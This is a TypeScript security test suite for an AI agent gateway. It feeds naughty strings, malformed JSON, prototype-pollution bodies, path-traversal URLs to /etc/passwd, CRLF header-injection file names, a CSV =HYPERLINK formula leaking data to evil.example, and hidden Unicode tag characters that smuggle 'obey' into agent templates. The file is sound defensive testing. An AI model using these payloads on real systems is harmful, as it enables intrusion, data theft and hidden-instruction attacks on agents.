import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { createLogger } from '../../src/base/logger.ts';
import { logFormatter } from '../../src/cli/render/log-format.ts';
import { createPaint } from '../../src/cli/render/paint.ts';
import { plainText } from '../../src/cli/render/plain-text.ts';
import { parseTemplate } from '../../src/host/workers/templates.ts';
import { cleanText, isClean } from '../../src/protocol/clean-text.ts';
import { parseConfig } from '../../src/protocol/config.ts';
import { neutraliseMarkdown } from '../../src/protocol/neutralise-markdown.ts';
import { createScriptedModel } from '../../src/testing/scripted-model.ts';
import { createTestCore } from '../../src/testing/test-core.ts';
import { createGateway } from '../gateway/gateway.ts';

const data = (name: string): unknown => JSON.parse(readFileSync(join(import.meta.dirname, 'data', name), 'utf8'));
const NAUGHTY = z.array(z.string()).parse(data('naughty-strings.json'));
const JSON_CASES = Object.entries(z.record(z.string(), z.string()).parse(data('json-cases.json')));
/** Everything that moves a cursor, reorders a line or is not seen. */
const DANGEROUS = /(?![\t\n\r])[\p{Cc}\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\u{e0000}-\u{e007f}]/u;

describe('naughty strings', () => {
  it('go through a whole chat: stored clean, answered, none of them breaks the session', async () => {
    const model = createScriptedModel(({ transcript }) => {
      const last = transcript.at(-1);
      return `You said: ${last?.role === 'user' ? last.text : ''}`;
    });
    await using world = await createTestCore({ model, limits: { sessionRounds: 10_000 } });
    const { core } = world;
    const session = await core.sessions.active({ agentId: 'operator', channel: 'local', chatId: 'owner' });
    for (const [index, text] of NAUGHTY.entries()) {
      const inbound = { channel: 'local', platformMessageId: `m${index}`, session, principal: 'owner', text };
      if (cleanText(text).trim() === '') {
        await expect(core.inbox.receive(inbound)).rejects.toMatchObject({ code: 'bad-request' });
        continue;
      }
      const { message } = await core.inbox.receive(inbound);
      core.lanes.add(session.id, message.run_id);
      await core.manager.settled(message.run_id, AbortSignal.timeout(10_000));
      const row = await core.inbox.get(message.id);
      expect({ text, state: row.state }).toEqual({ text, state: 'answered' });
      expect(row.text).toBe(cleanText(text));
      expect(isClean(row.answer ?? '')).toBe(true);
    }
  }, 60_000);

  it.each(NAUGHTY.map((text) => [JSON.stringify(text).slice(0, 60), text]))(
    'drive no terminal and load no image: %s',
    (_name, text) => {
      expect(plainText(text)).not.toMatch(/(?![\t\n])\p{Cc}/u);
      expect(plainText(text)).not.toMatch(DANGEROUS);
      expect(neutraliseMarkdown(text)).not.toMatch(/!\[[^\]]*\]\(|<img/i);
    },
  );

  it('stay one line of a log each, and drive no terminal there', () => {
    const lines: string[] = [];
    const log = createLogger({ name: 'test', level: 'info', write: (line) => lines.push(line) });
    const hostile = [...NAUGHTY, 'x\n12:00:00 host error fake entry', '\u009b31mred', 'a\u202eb\u2028c\u{e0041}'];
    for (const text of hostile) log.info('message', { text });
    expect(lines).toHaveLength(hostile.length);
    const show = logFormatter(createPaint(false));
    for (const [index, line] of lines.entries()) {
      expect(line.indexOf('\n')).toBe(line.length - 1);
      expect(line.trimEnd()).not.toMatch(DANGEROUS);
      expect(JSON.parse(line).text).toBe(
        hostile[index]?.toWellFormed() === hostile[index] ? hostile[index] : JSON.parse(line).text,
      );
      const shown = show({ name: 'host', text: line.trimEnd() });
      expect(shown).not.toContain('\n');
      expect(shown).not.toMatch(DANGEROUS);
    }
  });
});

describe('bodies of requests', () => {
  it('of all kinds of wrong JSON are refused, and are never an error of ours', async () => {
    await using gateway = await createGateway();
    for (const [name, base64] of JSON_CASES) {
      // What is no text is sent as latin1, which is just as wrong.
      const body = Buffer.from(base64, 'base64').toString('latin1');
      const reply = await gateway.fetch('/api/tokens', { method: 'POST', viaSocket: true, body });
      expect({ name, status: reply.status }).toEqual({ name, status: 400 });
      expect(reply.json()).toMatchObject({ code: 'bad-request' });
    }
    expect(gateway.logs.filter((line) => line.includes('"level":"error"'))).toEqual([]);
  });

  it('that name a prototype change nothing', async () => {
    await using gateway = await createGateway();
    const body = '{"__proto__":{"isOwner":true},"constructor":{"prototype":{"isOwner":true}},"note":"x"}';
    const reply = await gateway.fetch('/api/tokens', { method: 'POST', viaSocket: true, body });
    expect(reply.status).toBe(400);
    expect(({} as { isOwner?: boolean }).isOwner).toBeUndefined();
  });

  it('that are too long are refused with their limit', async () => {
    await using gateway = await createGateway();
    const body = JSON.stringify({ text: 'x'.repeat(200_001) });
    const reply = await gateway.fetch('/api/agents/operator/messages', { method: 'POST', viaSocket: true, body });
    expect(reply.status).toBe(400);
    expect(reply.text).toContain('200000');
  });
});

describe('paths', () => {
  it.each([
    '/../../../../etc/passwd',
    '/..%2f..%2f..%2fetc%2fpasswd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/assets/..%5c..%5cetc%5cpasswd',
    '/assets/%00',
    '//etc/passwd',
    '/api/blobs/..%2f..%2fhost.db',
    '/api/artifacts/..%2f..%2fhost.db/content',
  ])('%s leads nowhere', async (path) => {
    await using gateway = await createGateway();
    const { cookie } = await gateway.browser();
    const reply = await gateway.fetch(path, { headers: { cookie } });
    expect(reply.text).not.toContain('root:');
    expect(reply.status).toBeGreaterThanOrEqual(200);
    expect(reply.status).toBeLessThan(500);
  });
});

describe('what an agent hands over', () => {
  it('cannot write a header with its name', async () => {
    await using gateway = await createGateway();
    gateway.control.artifact = {
      ...gateway.control.artifact,
      name: 'a"\r\nset-cookie: x=1\r\n\u202egpj.exe',
      mediaType: 'text/html\r\nx-evil: 1',
    };
    const reply = await gateway.fetch('/api/artifacts/art_1/content', { viaSocket: true });
    expect(reply.status).toBe(200);
    expect(reply.headers['set-cookie']).toBeUndefined();
    expect(reply.headers['x-evil']).toBeUndefined();
    expect(reply.headers['content-type']).toBe('application/octet-stream');
    expect(reply.headers['content-disposition']).toMatch(/^attachment; /);
    expect(reply.headers['content-disposition']).not.toMatch(/[\r\n]/);
  });

  it('runs no formula in a spreadsheet, unless the exact bytes are asked for', async () => {
    await using gateway = await createGateway();
    const csv = 'name,sum\n=HYPERLINK("https://evil.example?"&A2),-5\n';
    gateway.control.artifact = {
      ...gateway.control.artifact,
      name: 'report.CSV',
      mediaType: 'application/octet-stream',
    };
    Object.assign(gateway.control, { content: new TextEncoder().encode(csv) });
    const safe = await gateway.fetch('/api/artifacts/art_1/content', { viaSocket: true });
    expect(safe.text).toBe(csv.replace('=HYPER', "'=HYPER"));
    const exact = await gateway.fetch('/api/artifacts/art_1/content?exact=true', { viaSocket: true });
    expect(exact.text).toBe(csv);
  });
});

describe('what an owner writes', () => {
  it('is refused in config.json when it cannot be seen whole', () => {
    const parsed = parseConfig({ model: 'openai/gpt\u200b-5', server: { publicUrl: 'https://a\u202egood.example' } });
    expect(parsed.ok).toBe(false);
    expect(parsed.ok ? [] : parsed.problems.map(({ path }) => path)).toEqual(['model', 'server.publicUrl']);
    expect(parsed.ok ? '' : parsed.problems[0]?.problem).toContain('<U+200B>');
  });

  it('is read in a template as it looks', () => {
    const hidden = String.fromCodePoint(...[...'obey'].map((letter) => 0xe0000 + letter.charCodeAt(0)));
    const text = cleanText(
      `---\nid: x\ntitle: T\ndescription: d${hidden}\ntools: [read_file]\n---\nYou are${hidden} kind.`,
    );
    expect(parseTemplate('x.md', text, ['read_file'])).toMatchObject({
      template: { description: 'd', prompt: 'You are kind.' },
    });
  });
});
